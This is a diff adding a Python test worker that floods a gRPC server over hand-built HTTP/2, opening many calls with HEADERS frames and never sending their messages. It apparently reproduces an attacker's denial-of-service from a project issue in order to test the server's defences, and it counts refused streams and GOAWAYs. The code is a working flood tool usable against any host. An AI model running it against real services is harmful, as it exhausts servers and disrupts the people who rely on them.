@@ -1,0 +1,134 @@
+"""An anonymous client that opens gRPC calls and never sends their message.
+
+    python tests/workers/headers_flood.py HOST:PORT CONNECTIONS CALLS SECONDS [PATH [CREDENTIAL]]
+
+Over CONNECTIONS plain TCP connections it speaks HTTP/2 by hand: the preface, its
+SETTINGS, then HEADERS frames as fast as the server takes them, for SECONDS or until
+CALLS in all (spread over the connections), whichever comes first, each opening a
+call of PATH (default `/elasticrun.store.v1.C10dStore/Set`) with no message, and no token
+(or CREDENTIAL as its bearer): what issue 36's attacker sent. It answers the server's SETTINGS and PINGs and reads
+everything else, counting what the server did with the calls, and holds the connections
+open until SIGTERM. Prints `flooding` once every connection has sent its first 1,000
+frames (or `flood-ended` if every connection closed first), `flood-sent` once all have
+stopped sending, and on SIGTERM one line
+`sent=N refused_streams=R answered=A goaway=G closed=C`:
+
+- refused_streams: RST_STREAM frames (the server refused or reset a call),
+- answered: HEADERS frames from the server (initial metadata or a status),
+- goaway: connections the server told to go away, closed: connections that ended.
+
+Standard library only, and bounded: CALLS frames at most, loopback only by its use.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import contextlib
+import signal
+import struct
+import sys
+import time
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
+END_HEADERS, ACK = 0x4, 0x1
+
+
+def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def _literal(name: bytes, value: bytes) -> bytes:
+    """An HPACK literal header field without indexing, new name, no Huffman (short strings)."""
+    assert len(name) < 127 and len(value) < 127
+    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
+
+
+def header_block(authority: str, path: str, credential: str = "") -> bytes:
+    # 0x83 = :method POST, 0x86 = :scheme http (HPACK's static table)
+    fields = [(b":path", path.encode()), (b":authority", authority.encode()),
+              (b"content-type", b"application/grpc"), (b"te", b"trailers")]
+    if credential:
+        fields.append((b"authorization", b"Bearer " + credential.encode()))
+    return b"\x83\x86" + b"".join(_literal(name, value) for name, value in fields)
+
+
+async def connection(
+    host: str, port: int, path: str, credential: str, calls: int, seconds: float, counts: dict[str, int]
+) -> None:
+    reader, writer = await asyncio.open_connection(host, port)
+    writer.write(PREFACE + frame(SETTINGS, 0, 0))
+    block = header_block(f"{host}:{port}", path, credential)
+
+    async def read() -> None:
+        while True:
+            head = await reader.readexactly(9)
+            length = int.from_bytes(head[:3], "big")
+            kind, flags = head[3], head[4]
+            payload = await reader.readexactly(length)
+            if kind == SETTINGS and not flags & ACK:
+                writer.write(frame(SETTINGS, ACK, 0))
+            elif kind == PING and not flags & ACK:
+                writer.write(frame(PING, ACK, 0, payload))
+            elif kind == RST_STREAM:
+                counts["refused_streams"] += 1
+            elif kind == HEADERS:
+                counts["answered"] += 1
+            elif kind == GOAWAY:
+                counts["goaway"] += 1
+
+    async def send() -> None:
+        end = time.monotonic() + seconds
+        for n in range(calls):
+            if reading.done() or time.monotonic() > end:
+                break
+            writer.write(frame(HEADERS, END_HEADERS, 2 * n + 1, block))
+            counts["sent"] += 1
+            if n % 64 == 63:
+                await writer.drain()
+            if n == 999:
+                counts["started"] += 1
+        await writer.drain()
+
+    reading = asyncio.create_task(read())
+    try:
+        with contextlib.suppress(OSError):
+            await send()
+        counts["stopped"] += 1
+        await reading
+    except (OSError, asyncio.IncompleteReadError):
+        pass
+    finally:
+        counts["closed"] += 1
+        reading.cancel()
+        writer.close()
+
+
+async def main(
+    endpoint: str, connections: int, calls: int, seconds: float,
+    path: str = "/elasticrun.store.v1.C10dStore/Set", credential: str = "",
+) -> None:
+    host, _, port = endpoint.rpartition(":")
+    counts = dict.fromkeys(("sent", "refused_streams", "answered", "goaway", "closed", "started", "stopped"), 0)
+    each = -(-calls // connections)
+    tasks = [asyncio.create_task(connection(host.strip("[]"), int(port), path, credential, each, seconds, counts))
+             for _ in range(connections)]
+    stop = asyncio.Event()
+    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stop.set)
+    while counts["started"] + counts["closed"] < connections and not all(t.done() for t in tasks):
+        await asyncio.sleep(0.01)
+    print("flooding" if counts["started"] else "flood-ended", flush=True)
+    while counts["stopped"] < connections and not all(t.done() for t in tasks):
+        await asyncio.sleep(0.01)
+    print("flood-sent", flush=True)
+    await stop.wait()
+    for task in tasks:
+        task.cancel()
+    await asyncio.gather(*tasks, return_exceptions=True)
+    for kept in ("started", "stopped"):
+        counts.pop(kept)
+    print(" ".join(f"{k}={v}" for k, v in counts.items()), flush=True)
+
+
+if __name__ == "__main__":
+    asyncio.run(main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), *sys.argv[5:7]))
